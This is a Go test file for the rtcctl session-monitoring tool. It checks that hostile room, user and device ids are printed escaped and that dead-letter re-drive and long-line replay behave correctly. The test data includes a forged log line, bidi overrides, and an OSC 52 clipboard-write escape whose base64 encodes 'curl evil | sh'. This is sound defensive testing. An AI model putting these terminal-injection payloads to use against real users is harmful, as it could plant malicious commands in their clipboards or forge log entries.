package hostile

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"maunium.net/go/mautrix/id"

	"github.com/rtcsessions/rtc-sessions/internal/authz"
	"github.com/rtcsessions/rtc-sessions/internal/authz/authztest"
	"github.com/rtcsessions/rtc-sessions/internal/ctlapi"
	"github.com/rtcsessions/rtc-sessions/internal/ingest"
	"github.com/rtcsessions/rtc-sessions/internal/proctest"
	"github.com/rtcsessions/rtc-sessions/internal/rawevent"
	"github.com/rtcsessions/rtc-sessions/internal/rtcctl/safetext"
	"github.com/rtcsessions/rtc-sessions/pkg/events"
)

// TestMain removes the binaries proctest builds for the rtcctl tests.
func TestMain(m *testing.M) { os.Exit(proctest.Main(m)) }

// rtcctlAs runs the real rtcctl binary (built by internal/proctest) as a
// shipped NATS user ("" for none) against srv, with an empty HOME (no NATS
// contexts) and no NATS_* variables but the user's, and returns its exit
// status and its stdout and stderr bytes.
func rtcctlAs(t *testing.T, srv *authztest.Server, user string, args ...string) (int, string, string) {
	t.Helper()
	bin := proctest.Build(t).RTCCtl
	ctx, cancel := context.WithTimeout(context.Background(), 2*waitTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = []string{"HOME=" + t.TempDir(), "PATH=" + os.Getenv("PATH")}
	if user != "" {
		pw, err := os.ReadFile(srv.PasswordFiles[user])
		if err != nil {
			t.Fatal(err)
		}
		u, _ := authz.UserByName(user)
		cmd.Env = append(cmd.Env, "NATS_URL="+srv.NS.ClientURL(), "NATS_USER="+user,
			"NATS_PASSWORD="+strings.TrimSpace(string(pw)), "NATS_INBOX_PREFIX="+u.InboxPrefix)
	}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case err == nil:
		return 0, stdout.String(), stderr.String()
	case errors.As(err, &ee) && ee.ExitCode() > 0:
		return ee.ExitCode(), stdout.String(), stderr.String()
	default:
		t.Fatalf("rtcctl %q: %v\nstdout %q\nstderr %q", args, err, stdout.String(), stderr.String())
		return 0, "", ""
	}
}

// forgedLine is a complete `rtcctl tail` line of a room the hostile room id
// does not name: printed raw after the newline of the id, it would be a
// session_ended of !victim on the operator's terminal.
const forgedLine = "2026-01-01T00:00:00.000Z  session_ended    !victim:" + hsA + "  m.call call=\"\"  reason=expired  devices=0 users=0  seq=9"

// wantSafeTerminalOutput fails unless out (one command's stdout or stderr
// bytes) holds no character a terminal acts on other than its line ends
// (control characters, escape sequences, bidi controls, zero-width and
// other invisible characters), no line of its own starting with the forged
// line, and each of the visible escapes in want.
func wantSafeTerminalOutput(t *testing.T, what, out string, want ...string) {
	t.Helper()
	if i := safetext.FirstUnsafe(out); i >= 0 {
		t.Errorf("%s: a raw %q at byte %d reaches the terminal:\n%q", what, []rune(out[i:])[0], i, out)
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(l), forgedLine[:40]) {
			t.Errorf("%s: prints the forged line %q as a line of its own:\n%s", what, l, out)
		}
	}
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("%s: lacks %q:\n%s", what, w, out)
		}
	}
}

// TestRtcctlPrintsHostileTextSafely: a homeserver sends a call membership
// whose room id holds a newline and a forged tail line, whose user id holds
// a bidi override and whose device id an OSC 52 clipboard write and a
// screen clear. It goes through the real ingest and aggregator, logged in
// as the shipped users; the real rtcctl binary, as the shipped subscriber,
// lists, tails, shows the history and the room: every line shows the ids
// escaped (\n, \x1b, \u202e), none is forged, and no raw control, bidi or
// invisible character reaches the terminal.
func TestRtcctlPrintsHostileTextSafely(t *testing.T) {
	srv := authztest.Start(t)
	startAggregator(t, srv.ConnConfig(authz.UserAggregator))
	ingestAddr, _ := startIngest(t, srv.NS, func(c *ingest.Config) { c.NATS = srv.ConnConfig(authz.UserIngest) })
	sub := srv.Connect(t, authz.UserSubscriber)
	sessions := followSessions(t, sub.JS)

	room := id.RoomID("!evil:" + hsA + "\n" + forgedLine)
	user := id.UserID("@mal\u202eyrol\u200b:" + hsA)
	device := "D\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\u009b31m"
	const (
		seeRoom   = `!evil:` + hsA + `\n2026-01-01T00:00:00.000Z  session_ended    !victim:`
		seeUser   = `@mal\u202eyrol\u200b:` + hsA
		seeDevice = `D\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\x1b[2J\u009b31m`
	)
	now := time.Now().UnixMilli()
	putOK(t, ingestAddr, hsTokens[hsA], "rtcctl-1", join(t, "$rtcctl-join", room, user, device, now))
	sessions.waitJoined(t, room, user)

	for _, tc := range []struct {
		name string
		args []string
		want []string
	}{
		{"sessions", []string{"sessions"}, []string{seeRoom, seeUser + "/" + seeDevice}},
		{"room", []string{"room", string(room)}, []string{"room " + seeRoom, seeUser + "/" + seeDevice}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errs := rtcctlAs(t, srv, authz.UserSubscriber, tc.args...)
			if code != 0 {
				t.Fatalf("exit %d\nstdout %q\nstderr %q", code, out, errs)
			}
			wantSafeTerminalOutput(t, "stdout", out, tc.want...)
			wantSafeTerminalOutput(t, "stderr", errs)
		})
	}

	// The member leaves: the session ends.
	putOK(t, ingestAddr, hsTokens[hsA], "rtcctl-2", mustJSON(t, callMember("$rtcctl-leave", room, user, user, device, now+1000, obj{})))
	waitFor(t, "the session to end", func() bool {
		evs := sessions.room(t, room)
		return len(evs) > 0 && evs[len(evs)-1].Kind == events.KindSessionEnded
	})
	for _, tc := range []struct {
		name  string
		args  []string
		lines int // -1: any
		want  []string
	}{
		{"tail", []string{"tail", "--all", "--max", "4"}, 4, []string{seeRoom, seeUser + "/" + seeDevice, "session_ended"}},
		{"tail --room", []string{"tail", "--all", "--room", string(room), "--max", "4"}, 4, []string{seeRoom}},
		{"history", []string{"history"}, 2, []string{seeRoom}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errs := rtcctlAs(t, srv, authz.UserSubscriber, tc.args...)
			if code != 0 {
				t.Fatalf("exit %d\nstdout %q\nstderr %q", code, out, errs)
			}
			wantSafeTerminalOutput(t, "stdout", out, tc.want...)
			wantSafeTerminalOutput(t, "stderr", errs)
			if n := strings.Count(out, "\n"); tc.lines >= 0 && n != tc.lines {
				t.Errorf("%d lines, want %d (one per event or row):\n%s", n, tc.lines, out)
			}
		})
	}

	// --json stays exact: the ids decode as they were sent.
	code, out, errs := rtcctlAs(t, srv, authz.UserSubscriber, "tail", "--all", "--json", "--max", "1", "--room", string(room))
	var ev events.SessionEvent
	err := json.Unmarshal([]byte(out), &ev)
	if code != 0 || err != nil || ev.RoomID != room {
		t.Fatalf("tail --json: exit %d, %v, room %q\nstdout %q\nstderr %q", code, err, ev.RoomID, out, errs)
	}
}

// TestRtcctlRedriveReportsBadEntries: RTC_DLQ holds two inputs that can be
// re-driven and, between them, one whose body does not decode and whose
// original subject names no room. The real rtcctl, as the shipped operator,
// re-drives both good ones (the running aggregator then applies them), names
// the bad one with its sequence and why, and exits 1; --dry-run says the
// same and changes nothing.
func TestRtcctlRedriveReportsBadEntries(t *testing.T) {
	srv := authztest.Start(t)
	startAggregator(t, srv.ConnConfig(authz.UserAggregator))
	agg := srv.Connect(t, authz.UserAggregator)
	sub := srv.Connect(t, authz.UserSubscriber)
	sessions := followSessions(t, sub.JS)
	ctx := context.Background()

	// What the aggregator writes to RTC_DLQ (internal/aggregator's headers).
	deadLetter := func(reason, origSubject string, body []byte) uint64 {
		t.Helper()
		m := nats.NewMsg(rawevent.DLQPrefix + ".0")
		m.Data = body
		m.Header.Set(ctlapi.HeaderDLQReason, reason)
		m.Header.Set(ctlapi.HeaderDLQError, "test: "+reason)
		m.Header.Set(ctlapi.HeaderDLQPart, "0")
		m.Header.Set(ctlapi.HeaderDLQSeq, "1")
		m.Header.Set(ctlapi.HeaderDLQSubject, origSubject)
		m.Header.Set(ctlapi.HeaderDLQAttempts, "5")
		ack, err := agg.JS.PublishMsg(ctx, m)
		if err != nil {
			t.Fatal(err)
		}
		return ack.Sequence
	}
	input := func(room id.RoomID, user id.UserID) []byte {
		in, err := ingest.Prepare([]byte(join(t, "$dlq-"+string(user), room, user, "DEV", time.Now().UnixMilli())),
			room, time.Now().UnixMilli(), hsA, rawevent.SourceAppservice)
		if err != nil {
			t.Fatal(err)
		}
		b, err := rawevent.EncodeRaw(&in)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	roomA, roomB := id.RoomID("!dlq-a:"+hsA), id.RoomID("!dlq-b:"+hsA)
	alice, bob := id.UserID("@alice:"+hsA), id.UserID("@bob:"+hsA)
	good1 := deadLetter("apply", rawevent.PartitionSubject(0, events.Token(string(roomA))), input(roomA, alice))
	bad := deadLetter("decode", "rtc.part.0.!!not-a-room-token", []byte("not an input"))
	good2 := deadLetter("apply", rawevent.PartitionSubject(0, events.Token(string(roomB))), input(roomB, bob))
	seq := func(s uint64) string { return "#" + strconv.FormatUint(s, 10) }
	dlqLeft := func() []uint64 {
		t.Helper()
		s, err := agg.JS.Stream(ctx, rawevent.StreamDLQ)
		if err != nil {
			t.Fatal(err)
		}
		var out []uint64
		for _, q := range []uint64{good1, bad, good2} {
			if _, err := s.GetMsg(ctx, q); err == nil {
				out = append(out, q)
			} else if !errors.Is(err, jetstream.ErrMsgNotFound) {
				t.Fatal(err)
			}
		}
		return out
	}

	code, out, errs := rtcctlAs(t, srv, authz.UserOperator, "dlq", "redrive", "--all", "--dry-run")
	if code != 1 || strings.Count(out, "would re-drive") != 2 || !strings.Contains(out, "2 of 3 can be re-driven") ||
		!strings.Contains(errs, "RTC_DLQ "+seq(bad)+": the input does not decode") {
		t.Fatalf("--dry-run: exit %d\nstdout %s\nstderr %s", code, out, errs)
	}
	if left := dlqLeft(); len(left) != 3 {
		t.Fatalf("--dry-run removed entries: %v left", left)
	}

	code, out, errs = rtcctlAs(t, srv, authz.UserOperator, "dlq", "redrive", "--all")
	if code != 1 || !strings.Contains(out, "re-driven RTC_DLQ "+seq(good1)) || !strings.Contains(out, "re-driven RTC_DLQ "+seq(good2)) ||
		!strings.Contains(out, "2 of 3 re-driven") {
		t.Fatalf("redrive --all: exit %d\nstdout %s\nstderr %s", code, out, errs)
	}
	if !strings.Contains(errs, "RTC_DLQ "+seq(bad)+": the input does not decode") || !strings.Contains(errs, "names no room") ||
		!strings.Contains(errs, "not: RTC_DLQ "+seq(bad)) {
		t.Fatalf("redrive --all does not name the bad entry and why:\n%s", errs)
	}
	if left := dlqLeft(); len(left) != 1 || left[0] != bad {
		t.Fatalf("RTC_DLQ after the re-drive: %v, want only %s", left, seq(bad))
	}
	// The aggregator applied what was re-driven.
	sessions.waitJoined(t, roomA, alice)
	sessions.waitJoined(t, roomB, bob)
}

// TestRtcctlSimulateSkipsLongLines: `rtcctl simulate` on a replay file with
// a 100 KiB line (more than bufio.Scanner's default 64 KiB token) between a
// join and a leave reports that line with its number, counts it, and
// simulates the leave after it; a line over --max-line-bytes is skipped the
// same way.
func TestRtcctlSimulateSkipsLongLines(t *testing.T) {
	room, user := id.RoomID("!replay:"+hsA), id.UserID("@alice:"+hsA)
	long := `{"type":"m.room.message","content":{"body":"` + strings.Repeat("x", 100<<10) + `"}}`
	file := filepath.Join(t.TempDir(), "replay.jsonl")
	lines := join(t, "$j", room, user, "DEV", 1767225600000) + "\n" + long + "\n" +
		mustJSON(t, callMember("$l", room, user, user, "DEV", 1767225660000, obj{})) + "\n"
	if err := os.WriteFile(file, []byte(lines), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"too large an event", nil, "line 2: skipped: malformed event"},
		{"--max-line-bytes", []string{"--max-line-bytes", "4096"}, "line 2: skipped: line too long: 102447 bytes, more than 4096"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errs := rtcctlAs(t, nil, "", append(append([]string{"simulate"}, tc.args...), file)...)
			if code != 1 || !strings.Contains(errs, tc.want) || !strings.Contains(errs, "1 of 3 lines skipped") {
				t.Fatalf("exit %d, want 1\nstderr %.2000s", code, errs)
			}
			var kinds []string
			for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
				var ev events.SessionEvent
				if err := json.Unmarshal([]byte(l), &ev); err != nil {
					t.Fatalf("stdout line %q: %v", l, err)
				}
				kinds = append(kinds, string(ev.Kind))
			}
			if strings.Join(kinds, " ") != "session_started member_joined member_left session_ended" {
				t.Fatalf("events %v: the leave after the long line was not simulated", kinds)
			}
		})
	}
}
